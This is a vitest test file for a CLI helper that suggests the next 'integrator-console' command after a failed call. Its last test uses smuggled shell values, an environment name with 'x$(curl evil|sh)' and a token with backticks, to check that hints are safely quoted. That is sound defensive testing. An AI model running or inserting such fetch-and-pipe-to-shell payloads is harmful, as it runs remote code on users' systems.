import { describe, expect, it } from 'vitest'
import type { AppErrorShape, Channel } from '../../src-shared/ipc'
import { said } from '../../src-shared/messages'
import { hintFor, type FailedCall } from './cli-hints'

const call = (channel: Channel, credentialsFromEnv = false): FailedCall => ({
  channel,
  token: 'u-1',
  environment: () => Promise.resolve('Staging ES'),
  credentialsFromEnv,
})

const error = (code: AppErrorShape['code'], message: AppErrorShape['said']): AppErrorShape => ({
  code,
  said: message,
})

describe('the hint after a failure: the command to type next', () => {
  it('tells a Create of a token that exists to update it, not to read it again', async () => {
    const hint = await hintFor(error('CONFLICT', said('answerConflict')), call('users:create'))
    expect(hint?.text).toContain('integrator-console users update u-1 --json FILE')
    expect(hint?.text).not.toContain('users get')
  })

  it('names the command that sets each secret not set, for the environment used', async () => {
    const missing = said('userTokenSecretMissing', { environment: 'Staging ES' })
    const hint = await hintFor(error('SECRET_MISSING', missing), call('sessions:authenticate'))
    expect(hint?.text).toContain("integrator-console env set-secret 'Staging ES' userTokenSecret")
  })

  it("follows the window's advice in Environments with the env edit option that does it", async () => {
    const refused = said('clientCertificateWantedCall', { url: 'https://x', code: 'E' })
    const hint = await hintFor(error('NETWORK', refused), call('users:retrieve'))
    expect(hint?.text).toContain("integrator-console env edit 'Staging ES' --client-cert PATH")
  })

  it('quotes a hostile environment name and token so a copied hint runs nothing', async () => {
    const hostile: FailedCall = {
      channel: 'users:update',
      token: 'u`id`',
      environment: () => Promise.resolve("x$(curl evil|sh)'"),
      credentialsFromEnv: false,
    }
    const confirm = await hintFor(error('CONFIRMATION_REQUIRED', said('answerConflict')), hostile)
    expect(confirm?.text).toContain(`--confirm 'x$(curl evil|sh)'\\'''.`)
    const conflict = await hintFor(error('CONFLICT', said('answerConflict')), hostile)
    expect(conflict?.text).toContain("integrator-console users get 'u`id`')")
  })
})
